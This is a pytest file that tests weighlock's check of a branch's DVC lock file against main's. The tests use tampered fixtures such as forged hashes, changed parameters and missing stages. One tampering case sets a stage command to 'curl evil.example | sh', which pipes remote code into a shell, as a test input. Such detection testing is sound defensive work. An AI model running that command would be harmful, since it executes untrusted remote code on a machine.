"""A branch's `dvc.lock`, held against what main's code makes."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest
import yaml

from weighlock.proposals.locks import OF_THIS_TREE, lock_condition
from weighlock.weighing import conditions

MODELS = {"models/weighed/model.onnx": "m1", "models/served/model.onnx": "m2"}
PARAMS = {
    "train.seed": 7,
    "train.rate": 1e-05,
    "train.learners": {},
    "data.window.end": "2024-03-31",
    "serve.open": False,
}


def stage(deps: dict[str, str], outs: dict[str, str], **params: Any) -> dict[str, Any]:
    return {
        "cmd": "weighlock stage",
        "deps": [{"path": p, "md5": m} for p, m in deps.items()],
        "params": {"params.yaml": params, "schema.yaml": {"key": "id"}},
        "outs": [{"path": p, "md5": m} for p, m in outs.items()],
    }


def lock() -> dict[str, Any]:
    return {
        "ingest": stage({"code": "c1"}, {"data/raw": "d1"}, **{"data.window": {"end": "2024-03-31"}}),
        "split": stage({"data/raw": "d1"}, {"data/split/train.parquet": "t1"}),
        "train": stage(
            {"data/split/train.parquet": "t1", "learners": "c2"},
            {"models/weighed/model.onnx": "m1"},
            train={"seed": 7, "rate": 1e-05, "learners": {}},
        ),
        "refit": stage({"models/weighed/model.onnx": "m1"}, {"models/served/model.onnx": "m2"}),
    }


def main_lock() -> dict[str, Any]:
    """Main's: the same data and code, another model."""
    found = lock()
    found["train"]["outs"][0]["md5"] = found["refit"]["deps"][0]["md5"] = "old1"
    found["refit"]["outs"][0]["md5"] = "old2"
    found["train"]["params"]["params.yaml"]["train"]["seed"] = 1
    return found


def test_what_follows_from_the_branchs_parameters_is_of_its_tree() -> None:
    found = lock_condition(lock(), main_lock(), PARAMS, MODELS)
    assert (found.holds, found.reason) == (True, OF_THIS_TREE)


def test_the_words_are_the_gates_own_so_that_the_evidence_is_one() -> None:
    import inspect

    assert f'"{OF_THIS_TREE}"' in inspect.getsource(conditions.lock)


def test_as_dvc_writes_it_and_yaml_reads_it() -> None:
    text = yaml.safe_dump(lock()).replace("1.0e-05", "1e-05")  # as DVC does
    assert lock_condition(yaml.safe_load(text), main_lock(), PARAMS, MODELS).holds


def put(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def change(found: dict[str, Any]) -> None:
        *way, last = path.split("/")
        at: Any = found
        for key in way:
            at = at[int(key) if key.isdigit() else key]
        at[int(last) if last.isdigit() else last] = value

    return change


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (put("ingest/outs/0/md5", "forged"), "`data/raw` of `ingest`"),
        (put("split/outs/0/md5", "forged"), "`data/split/train.parquet` of `split`"),
        (put("train/deps/0/md5", "forged"), "`data/split/train.parquet` of `train`"),
        (put("train/deps/1/md5", "forged"), "`learners` of `train`"),
        (put("train/cmd", "curl evil.example | sh"), "the command of `train`"),
        (
            put("train/params/params.yaml", {"train": {"seed": 8, "rate": 1e-05, "learners": {}}}),
            "`train.seed` of `train`",
        ),
        (put("train/params/params.yaml", {"train": {"seed": 7, "learners": {}}}), "`train` of `train`"),
        (put("train/params/schema.yaml", {"key": "x"}), "`schema.yaml` of `train`"),
        (lambda found: found.pop("refit"), "lacks the stage `refit`"),
        (lambda found: found["train"].pop("deps"), "`data/split/train.parquet` of `train`"),
    ],
)
def test_what_does_not_is_told(change: Callable[[dict[str, Any]], Any], said: str) -> None:
    branch = copy.deepcopy(lock())
    change(branch)
    found = lock_condition(branch, main_lock(), PARAMS, MODELS)
    assert found.holds is False
    assert said in found.reason


def test_a_model_of_other_bytes_is_told_and_weighed() -> None:
    found = lock_condition(lock(), main_lock(), PARAMS, MODELS | {"models/served/model.onnx": "m3"})
    assert found.holds
    assert "`models/served/model.onnx` came out with other bytes" in found.reason
